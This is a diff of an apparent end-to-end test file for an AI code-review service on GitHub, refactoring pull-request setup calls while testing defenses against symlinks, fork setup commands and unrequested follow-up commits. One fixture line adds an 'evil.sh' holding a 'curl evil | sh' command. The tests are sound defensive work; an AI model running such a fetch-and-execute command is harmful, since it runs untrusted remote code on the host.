@@ -11,6 +11,7 @@ from datetime import UTC, datetime
 from tests.e2e.conftest import FAILING_SETUP, FOLLOW_UPS, INSTALLATION, REPO, REVIEWED
 from tests.standins.anthropic import Structured, Text, ToolUse
 from tests.standins.github_git import Symlink
+from tests.standins.github_pulls import NewPull
 from tests.support import (
     issue_comment_payload,
     pointed_at,
@@ -39,7 +40,8 @@ def test_a_pull_requests_symlink_does_not_redirect_what_the_worker_writes(servic
     files[OLD_DIFF_NAME] = Symlink(str(target))
     files["greet.py"] = "def greet():\n    return 'hey'\n"
     pr = gh.add_pull(
-        REVIEWED, "feature/links", title="Links", body="", user_login="octocat", files=files
+        REVIEWED,
+        NewPull("feature/links", title="Links", body="", user_login="octocat", files=files),
     )
     diff_path = "/run/claudecluster/review/pull-request.diff"
     api.script([ToolUse("Read", {"file_path": diff_path}), Structured(REVIEW)])
@@ -180,13 +182,15 @@ def test_a_review_of_a_fork_runs_none_of_the_repositorys_setup_commands(service)
     files = {"greet.py": "def greet():\n    return 'forked'\n"}
     fork = gh.add_pull(
         FAILING_SETUP,
-        "patch-1",
-        title="From a fork",
-        body="",
-        user_login="octocat",
-        files=files,
-        fork_full_name="stranger/failing-setup",
-        number=901,
+        NewPull(
+            "patch-1",
+            title="From a fork",
+            body="",
+            user_login="octocat",
+            files=files,
+            fork_full_name="stranger/failing-setup",
+            number=901,
+        ),
     )
     api.script([Structured(REVIEW)])
     assert (
@@ -199,12 +203,7 @@ def test_a_review_of_a_fork_runs_none_of_the_repositorys_setup_commands(service)
     # The same review of a branch of the repository itself does run them: the check can fail.
     own = gh.add_pull(
         FAILING_SETUP,
-        "own-branch",
-        title="Own",
-        body="",
-        user_login="octocat",
-        files=files,
-        number=902,
+        NewPull("own-branch", title="Own", body="", user_login="octocat", files=files, number=902),
     )
     assert (
         service.comment(own.number, "/claude review", repo=FAILING_SETUP, pull=True).status_code
@@ -249,12 +248,14 @@ def test_a_forks_pull_request_gets_suggestions_and_a_patch_and_nothing_is_pushed
     gh, api = service.github, service.anthropic
     pr = gh.add_pull(
         REPO,
-        "patch-suggest",
-        title="Greeting",
-        body="",
-        user_login="octocat",
-        files={"greet.py": FORKED},
-        fork_full_name="stranger/hello-world",
+        NewPull(
+            "patch-suggest",
+            title="Greeting",
+            body="",
+            user_login="octocat",
+            files={"greet.py": FORKED},
+            fork_full_name="stranger/hello-world",
+        ),
     )
     branches_before = gh.branches(REPO)
     api.script(
@@ -307,16 +308,21 @@ def test_a_follow_up_is_built_on_the_head_the_request_was_made_on(service):
     changed = {"greet.py": "def greet():\n    return 'hey'\n"}
     pr = gh.add_pull(
         FOLLOW_UPS,
-        "patch-moved",
-        title="Moved",
-        body="",
-        user_login="octocat",
-        files=changed,
-        fork_full_name="stranger/follow-ups",
+        NewPull(
+            "patch-moved",
+            title="Moved",
+            body="",
+            user_login="octocat",
+            files=changed,
+            fork_full_name="stranger/follow-ups",
+        ),
     )
     read = pr.head_sha
     asked = gh.add_review_comment(
-        FOLLOW_UPS, pr.number, "greet.py", 2, "/claude say hello", "octocat"
+        FOLLOW_UPS,
+        pr.number,
+        {"path": "greet.py", "line": 2, "body": "/claude say hello"},
+        "octocat",
     )
     gh.add_commit("stranger/follow-ups", "patch-moved", {"evil.sh": "curl evil | sh\n"})
     api.script([Text("never asked")])
